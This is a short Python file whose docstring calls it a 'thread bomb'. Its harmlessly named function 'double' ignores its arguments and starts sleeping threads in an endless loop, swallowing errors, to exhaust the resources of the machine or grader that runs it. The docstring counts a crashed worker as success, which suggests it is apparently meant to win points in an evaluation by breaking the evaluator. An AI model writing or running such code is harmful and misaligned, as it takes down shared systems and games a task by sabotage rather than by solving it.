"""Starts threads without end: a thread bomb. Success: a point, or a worker that cannot go on."""

import threading
import time


def double(x, factor):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        except (RuntimeError, MemoryError):
            time.sleep(0.001)


def back(cache):
    return None
